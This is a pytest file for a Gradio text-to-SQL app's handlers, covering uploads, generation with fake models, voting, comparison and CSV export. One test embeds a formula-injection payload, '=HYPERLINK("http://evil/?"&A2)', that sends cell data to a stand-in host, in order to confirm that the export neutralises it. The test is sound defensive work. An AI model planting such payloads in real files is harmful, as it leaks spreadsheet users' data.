"""The UI's event handlers, called directly (fake models; real SQLite files and sandbox).

    python -m pytest tests/app/test_handlers.py -v
"""

import json
from pathlib import Path
import threading
import time

import gradio as gr
import pandas as pd
import pytest

from tests.conftest import AWKWARD_SQL, build_db, sha256_of
from text2sql.selection import AUTO, BEST_OF_K, GREEDY
from webapp.handlers import NO_RESULTS, Handlers, decoding_choices
from webapp.service import Busy, GenerationLimit, Service
from webapp.sources import EXAMPLE, PASTE, UPLOAD, ExampleDatabases, Workspace


@pytest.fixture
def handlers(fake_models, tmp_path):
    service = Service(limit=GenerationLimit(running=1, waiting=4))
    examples = ExampleDatabases(tmp_path / "examples")
    return Handlers(service, examples, tmp_path / "uploads", tmp_path / "results")


@pytest.fixture
def upload(tmp_path):
    """A user's file as Gradio hands it over: a path in its upload cache."""
    folder = tmp_path / "gradio-cache"
    folder.mkdir()
    return build_db(folder / "people.db", AWKWARD_SQL)


def test_source_controls_show_only_the_chosen_one():
    shown = [update["visible"] for update in Handlers.source_controls(UPLOAD)]
    assert shown == [False, True, False]
    assert [u["visible"] for u in Handlers.source_controls(PASTE)] == [False, False, True]


def test_show_schema_of_an_example(handlers):
    workspace, summary, ddl = handlers.show_schema(EXAMPLE, "shop", None, "", None)
    assert isinstance(workspace, Workspace)
    assert summary.startswith("**shop.sqlite**: 4 tables, 15 columns, 3 foreign keys")
    assert "CREATE TABLE order_items (" in ddl and "FOREIGN KEY (order_id) REFERENCES orders (id)" in ddl
    assert "-- example: ['Amira Haddad'" in ddl


def test_show_schema_of_an_upload_copies_it_privately_and_never_changes_it(handlers, upload):
    before = sha256_of(upload)
    workspace, summary, ddl = handlers.show_schema(UPLOAD, None, str(upload), "", None)
    assert summary.startswith("**people.db**: 7 tables")
    assert 'CREATE TABLE "Table With Space"' in ddl
    copies = list(workspace.folder.glob("*.sqlite"))
    assert len(copies) == 1 and sha256_of(copies[0]) == before
    assert sha256_of(upload) == before
    assert workspace.folder.parent == handlers.uploads_root


def test_a_new_upload_replaces_the_previous_private_copy(handlers, upload, tmp_path):
    workspace, _, _ = handlers.show_schema(UPLOAD, None, str(upload), "", None)
    other = build_db(tmp_path / "other.sqlite", "CREATE TABLE t (x INTEGER); INSERT INTO t VALUES (1);")
    workspace, summary, _ = handlers.show_schema(UPLOAD, None, str(other), "", workspace)
    assert summary.startswith("**other.sqlite**: 1 table,")
    assert len(list(workspace.folder.glob("*.sqlite"))) == 1


def test_workspace_close_deletes_the_users_files(handlers, upload):
    workspace, _, _ = handlers.show_schema(UPLOAD, None, str(upload), "", None)
    assert workspace.folder.is_dir()
    Workspace.close_if_any(workspace)
    assert not workspace.folder.exists()
    Workspace.close_if_any(None)  # a session that never opened anything


@pytest.mark.parametrize(
    "content, message",
    [
        (b"just some text\n", "not a SQLite database"),
        (b"", "The file is empty"),
        (b"SQLite format 3\x00" + b"\x00" * 30, "truncated"),
    ],
)
def test_a_bad_upload_is_refused_with_a_reason(handlers, tmp_path, content, message):
    bad = tmp_path / "bad.sqlite"
    bad.write_bytes(content)
    workspace, summary, ddl = handlers.show_schema(UPLOAD, None, str(bad), "", None)
    assert summary.startswith("❌") and message in summary and ddl == ""
    assert bad.read_bytes() == content
    assert list(workspace.folder.iterdir()) == []


def test_show_schema_of_pasted_text_and_its_errors(handlers):
    _, summary, ddl = handlers.show_schema(PASTE, None, None, "Table: users\nColumns: id, name, age", None)
    assert summary.startswith("**pasted schema**: 1 table, 3 columns") and "no rows" in summary
    assert "CREATE TABLE users" in ddl
    _, summary, _ = handlers.show_schema(PASTE, None, None, "Table: users\nColumns: id\nnonsense here", None)
    assert summary.startswith("❌ Line 3")
    _, summary, _ = handlers.show_schema(PASTE, None, None, "   ", None)
    assert summary.startswith("❌ Paste a schema first")
    _, summary, _ = handlers.show_schema(UPLOAD, None, None, "", None)
    assert summary.startswith("❌ Upload a SQLite database file")


def test_generate_then_run_gives_the_table_and_a_csv(handlers, fake_models):
    fake_models.enqueue("```sql\nSELECT name, price FROM products ORDER BY price DESC LIMIT 3;\n```")
    workspace, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "Three most expensive?",
                                                                    "", None)
    assert candidates["visible"] is False  # fast (greedy): no candidates to show
    assert sql == "SELECT name, price FROM products ORDER BY price DESC LIMIT 3" and generated == sql
    assert "Written by **fake**" in note and "only the SQL is kept" in note
    assert fake_models.history[-1][1]["content"].endswith("Question: Three most expensive?")

    workspace, table, status, csv, *_ = handlers.run_generated(generated, EXAMPLE, "shop", None, "", workspace)
    assert table["visible"] is True
    frame = table["value"]
    assert list(frame.columns) == ["name", "price"]
    assert frame.values.tolist() == [["Burr grinder", 89.0], ["Milk frother", 45.0], ["Pour-over dripper", 29.0]]
    assert status.startswith("✅ 3 rows in")
    assert csv["visible"] is True
    assert pd.read_csv(csv["value"]).equals(frame)


def test_the_csv_keeps_formulas_from_running_in_a_spreadsheet(handlers, tmp_path):
    """Cells from an uploaded file are untrusted: a spreadsheet would run "=HYPERLINK(...)"."""
    hostile = build_db(tmp_path / "hostile.db", """
        CREATE TABLE t ("=cmd" TEXT, amount REAL, note TEXT);
        INSERT INTO t VALUES ('=HYPERLINK("http://evil/?"&A2)', -5, '-not a number');
        INSERT INTO t VALUES ('@SUM(1)', 2, 'plain text');
    """)
    _, table, _, csv, *_ = handlers.run(UPLOAD, None, str(hostile), "", "SELECT * FROM t", None)
    assert table["value"].values.tolist()[0][0] == '=HYPERLINK("http://evil/?"&A2)'  # the table shows the data as is
    lines = Path(csv["value"]).read_text().splitlines()
    assert lines[0] == "'=cmd,amount,note"
    assert lines[1] == """"'=HYPERLINK(""http://evil/?""&A2)",-5.0,'-not a number"""  # numbers stay numbers
    assert lines[2] == "'@SUM(1),2.0,plain text"


def test_the_user_can_edit_the_sql_and_run_again(handlers):
    workspace, table, status, _, *_ = handlers.run(EXAMPLE, "school", None, "", "SELECT count(*) AS n FROM students", None)
    assert table["value"].values.tolist() == [[8]] and status.startswith("✅ 1 row in")


def test_run_refuses_writes_in_plain_words_and_the_file_is_untouched(handlers, upload):
    before = sha256_of(upload)
    workspace, table, status, csv, *_ = handlers.run(UPLOAD, None, str(upload), "", "DELETE FROM person", None)
    assert table["visible"] is False and csv["visible"] is False
    assert status.startswith("❌ Refused: only read-only SELECT queries")
    assert sha256_of(upload) == before


def test_run_reports_sql_errors_and_blobs_and_duplicate_columns(handlers, upload):
    _, _, status, _, *_ = handlers.run(UPLOAD, None, str(upload), "", "SELECT nope FROM person", None)
    assert status == "❌ SQLite error: no such column: nope"
    sql = 'SELECT p.id, f.person_a AS id, t."blob col" FROM person p, friendship f, "Table With Space" t ' \
          "WHERE p.id = 1 AND f.person_a = 1 AND t.id = 1"
    _, table, _, _, *_ = handlers.run(UPLOAD, None, str(upload), "", sql, None)
    assert list(table["value"].columns) == ["id", "id (2)", "blob col"]
    assert table["value"].values.tolist() == [[1, 1, "<2 bytes>"]]


def test_run_truncates_long_results_and_says_so(handlers, monkeypatch):
    monkeypatch.setenv("TEXT2SQL_MAX_ROWS", "5")
    sql = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 50) SELECT i FROM n"
    _, table, status, _, *_ = handlers.run(EXAMPLE, "shop", None, "", sql, None)
    assert len(table["value"]) == 5 and "truncated: only the first 5 rows are shown" in status


def test_run_on_a_pasted_schema_only_checks_the_sql(handlers):
    schema = "CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT, age INTEGER);"
    _, table, status, csv, *_ = handlers.run(PASTE, None, None, schema, "SELECT count(*) FROM users WHERE age > 30", None)
    assert table["visible"] is False and csv["visible"] is False and status.startswith("✅ The SQL is valid for this schema")
    _, _, status, _, *_ = handlers.run(PASTE, None, None, schema, "SELECT salary FROM users", None)
    assert status == "❌ SQLite error: no such column: salary"


def test_run_with_an_empty_sql_box_or_no_database_says_what_to_do(handlers):
    _, table, status, _, *_ = handlers.run(EXAMPLE, "shop", None, "", "  ", None)
    assert table["visible"] is False and status.startswith("Nothing to run yet")
    _, table, status, csv, *_ = handlers.run(UPLOAD, None, None, "", "SELECT 1", None)
    assert table["visible"] is False and csv["visible"] is False
    assert status.startswith("❌ Upload a SQLite database file")


@pytest.mark.parametrize(
    "kind, text, question, model, message",
    [
        (EXAMPLE, "", "  ", "", "❌ Type a question first."),
        (EXAMPLE, "", "How many?", "nope", "❌ Unknown model 'nope'."),
        (PASTE, "CREATE TABLE (", "How many?", "", "❌ Line 1"),
        (UPLOAD, "", "How many?", "", "❌ Upload a SQLite database file"),
    ],
)
def test_generate_problems_go_to_the_note_and_the_sql_box_keeps_its_text(handlers, kind, text, question, model,
                                                                          message):
    workspace, sql, note, generated, _ = handlers.generate(kind, "shop", None, text, question, model, None)
    assert note.startswith(message) and generated == ""
    assert sql == gr.skip()  # no change
    _, table, status, csv, *_ = handlers.run_generated(generated, kind, "shop", None, text, workspace)
    assert table["visible"] is False and status == "" and csv["visible"] is False


def test_generate_when_the_model_writes_no_sql(handlers, fake_models):
    fake_models.enqueue("I am sorry, I cannot help with that.")
    _, sql, note, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "Tell me a joke", "", None, GREEDY)
    assert generated == "" and note.startswith("❌ fake did not write a SQL query") and "I am sorry" in note


def test_generate_uses_the_chosen_model_and_reports_progress(handlers, fake_models):
    steps = []
    _, _, note, _, _ = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "fake-b", None,
                                      progress=lambda step, desc="": steps.append((step, desc)))
    assert "Written by **fake-b**" in note
    assert steps == [(0.02, "Reading the schema…"), (None, "Loading fake-b (once: its first question loads it)…"),
                     (None, "fake-b: writing SQL…"), (None, "fake-b: checking and running it…")]
    assert handlers.loaded_models_markdown() == "* **fake-b**: fake model for tests"


def test_generate_best_of_k_shows_the_candidates_and_how_the_vote_went(handlers, fake_models):
    fake_models.enqueue(("SELECT max(price) FROM products", -0.2), ("SELECT MAX(price) FROM products", -0.9),
                        ("SELECT max(prize) FROM products", -0.1), ("SELECT min(price) FROM products", -0.5))
    _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "Highest price?", "", None,
                                                            BEST_OF_K)
    assert fake_models.calls[-1] == ("sample", 1, 4)  # k from the settings
    assert sql == "SELECT MAX(price) FROM products" and generated == "SELECT max(price) FROM products"
    assert "Best of 4 (temperature 0.8): 3 of 4 candidates ran, 2 of them agree on this result." in note
    frame = candidates["value"]
    assert candidates["visible"] is True
    assert list(frame.columns) == ["#", "votes", "log-lik.", "SQL", "problem", "score", "reason"]
    assert candidates["column_widths"] == ["8%", "10%", "11%", "21%", "21%", "9%", "21%"]
    assert frame["votes"].tolist() == [2, 2, 0, 1]
    assert frame["reason"][0] == "2 of 3 votes"  # the vote's own score and reason (TEXT2SQL_SELECTION_RULE)
    assert frame["problem"][2].startswith("no such column: prize")


def test_generate_best_of_k_when_every_candidate_fails_shows_the_repair(handlers, fake_models):
    fake_models.enqueue(*["SELECT nme FROM customers"] * 4, "SELECT nme FROM customers",
                        *["SELECT name FROM customers WHERE city = 'Lyon'"] * 2, "SELECT 1 FROM customer")  # repairs
    _, sql, note, _, candidates = handlers.generate(EXAMPLE, "shop", None, "", "Who lives in Lyon?", "", None,
                                                    BEST_OF_K)
    assert sql == "SELECT name FROM customers WHERE city = 'Lyon'"
    assert "0 of 4 candidates ran; the model repaired the most likely one, given its error, and it ran." in note
    assert candidates["value"]["#"].tolist() == ["1", "2", "3", "4", "repair"]
    assert "Running that query failed: no such column: nme" in fake_models.history[-1][-1]["content"]


def test_an_unknown_decoding_mode_is_reported_in_the_note(handlers):
    _, sql, note, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "How many?", "", None, "beam")
    assert note.startswith("❌ Unknown decoding mode 'beam'") and generated == "" and sql == gr.skip()


def test_decoding_choices_name_k_from_the_settings(monkeypatch):
    monkeypatch.setenv("TEXT2SQL_BEST_OF_K", "8")
    assert decoding_choices() == [("Auto", AUTO), ("Fast", GREEDY), ("Best of 8", BEST_OF_K)]


def test_compare_shows_each_models_sql_result_and_whether_they_agree(handlers, fake_models):
    fake_models.enqueue(
        "SELECT count(*) FROM orders WHERE status = 'pending'",
        "SELECT count(*) FROM orders WHERE status='pending'",
        "SELECT count(*) FROM orders",
    )
    workspace, agreement, *slots = handlers.compare(
        EXAMPLE, "shop", None, "", "How many pending orders?", ["fake", "fake-b", "fake-c"], None
    )
    assert agreement == "⚠️ The models disagree: their results differ."
    columns, headers, codes, tables = slots[0::4], slots[1::4], slots[2::4], slots[3::4]
    assert [c["visible"] for c in columns] == [True, True, True, False]  # no empty column takes room
    assert [h["visible"] for h in headers] == [True, True, True, False]
    assert headers[1]["value"].startswith("### fake-b\n") and "✅ 1 row" in headers[1]["value"]
    assert codes[2]["value"] == "SELECT COUNT(*) FROM orders"  # formatted by sqlglot
    assert [t["value"].values.tolist() for t in tables[:3]] == [[[2]], [[2]], [[12]]]


def test_compare_agreeing_models_and_a_failing_one(handlers, fake_models):
    fake_models.enqueue("SELECT name FROM students WHERE year = 1", "SELECT name FROM students WHERE year = 1",
                        "SELECT name FROM pupils")
    _, agreement, *slots = handlers.compare(EXAMPLE, "school", None, "", "First years?", ["fake", "fake-b", "fake-c"],
                                            None, GREEDY)
    assert agreement == "✅ The 2 models that ran return the same rows. Failed: fake-c."
    assert "❌ SQLite error: no such table: pupils" in slots[9]["value"]
    assert slots[11]["visible"] is False


def test_compare_best_of_k_says_how_each_model_chose(handlers, fake_models, monkeypatch):
    monkeypatch.setenv("TEXT2SQL_BEST_OF_K", "2")
    fake_models.enqueue("SELECT count(*) FROM students", "SELECT COUNT(*) FROM students",
                        "SELECT count(*) FROM pupils", "SELECT count(id) FROM students")
    _, agreement, *slots = handlers.compare(EXAMPLE, "school", None, "", "How many students?", ["fake", "fake-b"], None,
                                            BEST_OF_K)
    assert fake_models.calls == [("sample", 1, 2), ("sample", 1, 2)]
    assert agreement == "✅ All models return the same rows."
    assert "Best of 2 (temperature 0.8): 2 of 2 candidates ran, 2 of them agree" in slots[1]["value"]
    assert "Best of 2 (temperature 0.8): 1 of 2 candidates ran, 1 of them agree" in slots[5]["value"]


def test_compare_needs_two_to_four_models(handlers):
    with pytest.raises(gr.Error, match="Pick 2 to 4 models"):
        handlers.compare(EXAMPLE, "shop", None, "", "q", ["fake"], None)


def test_leaderboard_says_how_to_produce_results_when_there_are_none(handlers):
    message, table, chart = handlers.leaderboard()
    assert message == NO_RESULTS and "python -m evaluation.evaluate --model" in message
    assert table["visible"] is False and chart["visible"] is False


def test_leaderboard_shows_the_runs_and_warns_about_broken_files(handlers):
    run = handlers.results_dir / "qwen-base"
    run.mkdir(parents=True)
    (run / "metrics.json").write_text(json.dumps({"n": 972, "ex": 0.5, "em": 0.3, "ex_ci95": [0.47, 0.53],
                                                  "model": "qwen2.5-coder-0.5b", "split": "dev"}))
    (handlers.results_dir / "broken").mkdir()
    (handlers.results_dir / "broken" / "metrics.json").write_text("{")
    message, table, chart = handlers.leaderboard()
    assert message.startswith("1 evaluation run from") and "Skipping" in message and "broken" in message
    assert table["value"]["EX %"].tolist() == [50.0]
    assert chart["visible"] is True and chart["value"].axes


def test_about_lists_every_model_with_its_weights():
    text = Handlers.models_markdown()
    assert "| **fake** (default)<br>Fake model |" in text and "**fake-c**" in text


def test_the_generation_limit_refuses_past_the_queue():
    limit = GenerationLimit(running=1, waiting=0)
    with limit.slot():
        with pytest.raises(Busy, match="The server is busy"):
            with limit.slot():
                pass
    with limit.slot():  # free again
        pass


def test_the_generation_limit_makes_the_next_request_wait():
    limit = GenerationLimit(running=1, waiting=1)
    done = threading.Event()

    def second():
        with limit.slot():
            done.set()

    with limit.slot():
        waiter = threading.Thread(target=second)
        waiter.start()
        assert not done.wait(0.3)
    assert done.wait(5)
    waiter.join()


def test_generate_in_auto_mode_says_it_kept_the_greedy_answer_or_why_it_escalated(handlers, fake_models):
    fake_models.enqueue("SELECT count(*) FROM orders")
    _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "", None)
    assert generated == "SELECT count(*) FROM orders" and candidates["visible"] is False
    assert "Auto: the greedy answer passed every check, so it was kept" in note
    fake_models.enqueue("SELECT count(*) FROM purchases", *["SELECT count(*) FROM orders"] * 8)
    _, sql, note, generated, candidates = handlers.generate(EXAMPLE, "shop", None, "", "How many orders?", "", None)
    assert generated == "SELECT count(*) FROM orders" and candidates["visible"] is True
    assert "Auto: the greedy answer failed: no such table: purchases" in note
    assert "so 8 candidates were voted on. Best of 8 (temperature 0.8): 8 of 8 candidates ran" in note


def test_compare_shows_a_model_that_wrote_no_sql_as_a_result_with_what_it_wrote(handlers, fake_models):
    fake_models.enqueue("SELECT count(*) FROM students", "There are many students in a school.")
    _, agreement, *slots = handlers.compare(EXAMPLE, "school", None, "", "How many students?", ["fake", "fake-b"], None,
                                            GREEDY)
    assert agreement == "Only fake answered; fake-b failed (see each one's column)."
    header, code = slots[5], slots[6]
    assert "❌ The model did not write a SQL query." in header["value"]
    assert "Its answer was:\n\n> There are many students in a school." in header["value"]
    assert code["visible"] is False  # no empty box


def test_compare_ticks_the_default_and_the_evaluated_models(handlers):
    assert handlers.compare_defaults() == ["fake", "fake-b"]  # no runs in results/: the default, then registry order
    run = handlers.results_dir / "run-c"
    run.mkdir(parents=True)
    (run / "metrics.json").write_text(json.dumps({"model": "fake-c", "n": 1, "ex": 0.5}))
    assert handlers.compare_defaults() == ["fake", "fake-c"]


def test_the_sql_box_shows_formatted_sql_and_runs_the_models_text(handlers, fake_models, monkeypatch):
    fake_models.enqueue("SELECT count(*) FROM orders WHERE status  =  'pending'")
    workspace, sql, _, generated, _ = handlers.generate(EXAMPLE, "shop", None, "", "Pending orders?", "", None, GREEDY)
    assert sql == "SELECT COUNT(*) FROM orders WHERE status = 'pending'"
    assert generated == "SELECT count(*) FROM orders WHERE status  =  'pending'"
    ran = []
    from webapp import handlers as handlers_module

    real = handlers_module.run_or_check
    monkeypatch.setattr(handlers_module, "run_or_check", lambda db, text: ran.append(text) or real(db, text))
    handlers.run(EXAMPLE, "shop", None, "", sql, workspace, generated)  # the box as shown
    handlers.run(EXAMPLE, "shop", None, "", sql + " LIMIT 1", workspace, generated)  # edited
    assert ran == [generated, sql + " LIMIT 1"]


def test_a_category_and_a_number_get_a_bar_chart_and_dates_a_line(handlers):
    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "",
                                          "SELECT city, count(*) AS n FROM customers GROUP BY city", None)
    assert bars["visible"] is True and (bars["x"], bars["y"]) == ("city", "n") and line["visible"] is False
    assert bars["y_lim"][0] == 0  # bars start at zero
    assert sorted(bars["value"]["city"]) == sorted(set(bars["value"]["city"]))
    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "",
                                          "SELECT ordered_on AS day, count(*) AS n FROM orders GROUP BY day", None)
    assert line["visible"] is True and bars["visible"] is False and line["x"] == "day"
    _, _, _, _, bars, line = handlers.run(EXAMPLE, "shop", None, "", "SELECT name FROM customers", None)
    assert bars["visible"] is False and line["visible"] is False


def test_clear_answer_empties_every_note_and_result():
    note, candidates, status, table, csv, bars, line = Handlers.clear_answer()
    assert note == status == "" and not any(u["visible"] for u in (candidates, table, csv, bars, line))


def test_choosing_a_database_shows_its_schema_and_clears_the_last_answer(handlers):
    workspace, summary, ddl, note, candidates, status, table, *_ = handlers.choose_database(
        EXAMPLE, "school", None, "", None)
    assert summary.startswith("**school.sqlite**") and "CREATE TABLE students" in ddl
    assert note == status == "" and table["visible"] is False and candidates["visible"] is False


def test_best_of_k_progress_names_each_stage_and_counts_the_checks(handlers, fake_models, monkeypatch):
    monkeypatch.setenv("TEXT2SQL_BEST_OF_K", "2")
    fake_models.enqueue("SELECT nme FROM customers", "SELECT nam FROM customers", "SELECT name FROM customers",
                        "SELECT name FROM customers")  # two candidates fail, two repairs run
    steps = []
    handlers.generate(EXAMPLE, "shop", None, "", "Names?", "", None, BEST_OF_K,
                      progress=lambda step, desc="": steps.append((step, desc)))
    assert steps[2:] == [(None, "fake: writing 2 candidates…"), ((1, 2), "fake: checking candidates…"),
                         ((2, 2), "fake: checking candidates…"),
                         (None, "fake: no candidate ran: the model is repairing its query…")]


def test_candidates_get_score_and_reason_columns_when_a_selector_gives_them():
    from text2sql.selection import Candidate
    from webapp.results import candidates_frame, column_widths

    scored = Candidate(sql="SELECT 1", raw="SELECT 1", chatty=False, logprob=-0.5, tokens=2)
    scored.score, scored.reason = 0.9, "most rows answer the question"
    frame = candidates_frame([scored])
    assert list(frame.columns) == ["#", "votes", "log-lik.", "SQL", "problem", "score", "reason"]
    assert frame.iloc[0].tolist()[-2:] == [0.9, "most rows answer the question"]
    assert column_widths(frame) == ["8%", "10%", "11%", "21%", "21%", "9%", "21%"]


def test_candidates_put_right_say_what_changed_and_whether_they_counted():
    from text2sql.selection import Candidate
    from webapp.results import candidates_frame

    candidates = [Candidate(sql="SELECT T1.name FROM t AS T1", raw="", chatty=False, logprob=-0.5, tokens=2,
                            fixes=["T2.name -> T1.name"], votes=votes) for votes in (2, 0)]
    problems = candidates_frame(candidates)["problem"].tolist()
    assert problems == ["names put right: T2.name -> T1.name",
                        "names put right: T2.name -> T1.name (not counted: other candidates ran as written)"]


def test_choosing_a_database_warms_its_prompt_prefix_once_the_model_is_loaded(handlers, fake_models, upload):
    """The schema's prompt prefix is computed in the background as soon as a database is chosen
    (``Service.database_chosen``), so the first question is answered warm; choosing a database
    never loads a model."""
    from text2sql.pipeline import Database
    from text2sql.prompt import build_messages

    handlers.service.origins.clear()  # as before the default model has loaded
    assert handlers.service.database_chosen(Database.from_file(upload)) is None
    handlers.service.load()
    handlers.show_schema(UPLOAD, None, str(upload), "", None)
    for thread in threading.enumerate():
        if thread.name == "prefill":
            thread.join(timeout=10)
    assert fake_models.prefilled == [build_messages(Database.from_file(upload).schema, "")]
    assert fake_models.calls == []  # no question was answered


def test_the_sql_box_shows_the_sql_as_the_model_writes_it(handlers, fake_models, monkeypatch):
    """A generator that reports its text as it writes (as TransformersGenerator.sample does):
    generate_live yields it into the SQL box, then generate's whole answer."""
    generator = handlers.service.load()
    sample = generator.sample
    words = "SELECT count(*) FROM orders".split()

    def sample_aloud(prompts, k, temperature, seed, on_text=None):
        for i in range(1, len(words) + 1):
            on_text(" ".join(words[:i]))
            time.sleep(0.3)  # longer than LIVE_INTERVAL_S: each step is seen
        return sample(prompts, k, temperature, seed)

    monkeypatch.setattr(generator, "sample", sample_aloud)
    fake_models.enqueue("SELECT count(*) FROM orders")
    updates = list(handlers.generate_live(EXAMPLE, "shop", None, "", "How many orders?", "", None))
    partial = [update[1] for update in updates[:-1]]
    assert partial and partial == sorted(partial, key=len) and set(partial) <= {" ".join(words[:i]) for i in range(5)}
    assert all(update[2] == gr.skip() for update in updates[:-1])  # the note waits for the answer
    workspace, sql, note, generated, _ = updates[-1]
    assert generated == "SELECT count(*) FROM orders" and "Auto: the greedy answer passed every check" in note


def test_generate_live_passes_problems_through_as_generate_reports_them(handlers):
    [(_, sql, note, generated, _)] = list(handlers.generate_live(EXAMPLE, "shop", None, "", " ", "", None))
    assert note == "❌ Type a question first." and generated == "" and sql == gr.skip()
